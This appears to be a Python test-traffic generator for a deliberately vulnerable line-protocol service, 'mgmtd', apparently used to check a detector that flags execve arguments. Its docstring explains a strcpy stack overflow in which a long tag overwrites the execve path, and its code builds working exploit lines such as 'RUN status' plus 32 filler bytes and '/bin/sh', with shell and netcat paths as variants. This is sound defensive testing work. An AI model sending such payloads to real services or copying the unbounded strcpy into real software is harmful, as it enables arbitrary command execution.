"""Traffic for ``mgmtd`` (line protocol on TCP 7070): benign management and the execve-path exploit.

Requests are lines: ``PING``, ``HELP``, ``QUIT``, ``RUN <command> [tag]``. ``RUN`` execve's the
command's fixed path with a fixed argv and environment; the tag is only echoed back.

The bug: ``run`` keeps ``struct job { char tag[32]; char path[64]; }`` on its stack, fills in
``path`` from the allow-list, then strcpy's the tag. Its disassembly (``objdump -d
--no-show-raw-insn bin/mgmtd``)::

    401a50 <run>:
      ...
      sub    $0x60,%rsp
      lea    0x20(%rsp),%r14       # job.path = rsp + 0x20
      mov    %rsp,%r12             # job.tag  = rsp + 0x00
      mov    %r14,%rdi
      call   401018                # strcpy(job.path, cmd->path)   (iplt slot of strcpy)
      mov    %r13,%rsi
      mov    %r12,%rdi
      call   401018                # strcpy(job.tag, tag)          BUG
      ...
      mov    %r14,%rdi
      call   431020 <__execve>     # execve(job.path, cmd->argv, run_env)

so ``path`` starts 0x20 bytes after ``tag`` (``TAG_TO_PATH``; ``tests/sca/test_services.py``
re-derives it) and the return address is 0x60 + 5 * 8 = 0x88 bytes after ``tag``, out of reach
of a tag that only replaces the path (at most 0x20 + 63 bytes plus its NUL).

The exploit: ``RUN status <32 filler bytes>/bin/sh``. The tag's last bytes land on ``path``,
so execve runs the attacker's path (argv stays the allow-listed one): a function-argument alert
on execve's argument 0, whose bytes are the path's characters in the request (the NUL is the
one the line parser writes over the newline, not the attacker's). In the sandbox execve is
recorded and fails, and the service answers ``ERR <tag> exec failed``.
"""

from __future__ import annotations

import random
import string

from sca.alert import AlertType, FunctionArgument, Message
from sca.services._traffic import ALNUM, ExploitCase, split, stream_refs, tcp_session, word

EXPECTED_TYPE = AlertType.FUNCTION_ARGUMENT

SERVICE = "mgmtd"
PORT = 7070

TAG_SIZE = 32  # char tag[32]
PATH_SIZE = 64  # char path[64]
TAG_TO_PATH = 0x20  # lea 0x20(%rsp),%r14 (path) vs mov %rsp,%r12 (tag)
TAG_TO_RET = 0x88  # sub $0x60,%rsp + 5 pushes: the return address, beyond the exploit
COMMANDS = {  # name -> the fixed path execve gets (see mgmtd.c)
    "status": "/bin/uname",
    "uptime": "/usr/bin/uptime",
    "disk": "/bin/df",
    "who": "/usr/bin/who",
}
ATTACK_PATHS = ("/bin/sh", "/bin/bash", "/bin/dash", "/bin/busybox", "/usr/bin/nc", "/tmp/.x")
MAX_BENIGN_TAG = 24  # well below TAG_SIZE - 1
# Tag bytes the line parser passes through unchanged (no CR/LF/NUL).
FILLER_ALPHABET = (string.ascii_letters + string.digits + string.punctuation + " ").encode()


def _tag(rng: random.Random) -> str:
    return rng.choice(
        (
            f"job-{rng.randint(1, 99999)}",
            f"cron.{rng.choice(('hourly', 'daily', 'weekly'))}",
            rng.choice(("nagios", "zabbix", "ops", "backup", "deploy")),
            f"ops.{word(rng, string.ascii_lowercase, 3, 8)}",
            f"#{rng.randint(1, 500)}",
        )
    )


def _benign_line(rng: random.Random) -> str:
    roll = rng.random()
    if roll < 0.55:
        cmd = rng.choice(tuple(COMMANDS))
        if rng.random() < 0.6:
            tag = _tag(rng)
            assert len(tag) <= MAX_BENIGN_TAG, "a benign tag must never reach the bug"
            return f"RUN {cmd} {tag}"
        return f"RUN {cmd}"
    if roll < 0.75:
        return "PING"
    if roll < 0.85:
        return "HELP"
    return f"RUN {rng.choice(('reboot', 'shell', 'update', word(rng, ALNUM, 2, 10)))}"


def benign(rng: random.Random) -> list[Message]:
    """1 or 2 connections of 1 to 5 lines, \\n or \\r\\n ended, sometimes pipelined or split,
    sometimes ended by QUIT."""
    connections: list[list[bytes]] = []
    for _ in range(rng.randint(1, 2)):
        eol = rng.choice(("\n", "\r\n"))
        lines = [_benign_line(rng) for _ in range(rng.randint(1, 5))]
        if rng.random() < 0.4:
            lines.append("QUIT")
        how = rng.random()
        if how < 0.5:
            chunks = [(line + eol).encode() for line in lines]
        elif how < 0.8:
            chunks = [("".join(line + eol for line in lines)).encode()]
        else:
            chunks = split("".join(line + eol for line in lines).encode(), rng, 2)
        connections.append(chunks)
    return tcp_session(connections)


def exploit_case(rng: random.Random | None = None) -> ExploitCase:
    """The exploit and where the execve path's bytes are. ``rng`` None: ``RUN status`` with 32
    'A's and ``/bin/sh``. With an rng: another command, random filler, another path, CR LF or
    LF, benign lines first, maybe split across sends."""
    if rng is None:
        cmd, filler, path, eol = "status", b"A" * TAG_TO_PATH, b"/bin/sh", b"\n"
        before: list[bytes] = []
    else:
        cmd = rng.choice(tuple(COMMANDS))
        filler = bytes(rng.choice(FILLER_ALPHABET) for _ in range(TAG_TO_PATH))
        path = rng.choice(ATTACK_PATHS).encode()
        eol = rng.choice((b"\n", b"\r\n"))
        before = [_benign_line(rng).encode() + eol for _ in range(rng.randint(0, 2))]
    head = b"RUN " + cmd.encode() + b" "
    line = head + filler + path + eol
    assert len(filler + path) < TAG_TO_RET, "the exploit replaces the path, nothing more"
    stream = b"".join(before) + line
    at = len(stream) - len(line) + len(head) + TAG_TO_PATH
    if rng is None:
        chunks = [stream]
    elif rng.random() < 0.5:
        chunks = [*before, line]
    else:
        chunks = split(stream, rng, rng.randint(1, 3))
    messages = tcp_session([chunks])
    refs = stream_refs(messages, 0, at, len(path))
    return ExploitCase(tuple(messages), FunctionArgument("execve", 0, refs))


def exploit(rng: random.Random | None = None) -> list[Message]:
    """rng None: the canonical exploit; with an rng: a random variant."""
    return list(exploit_case(rng).messages)
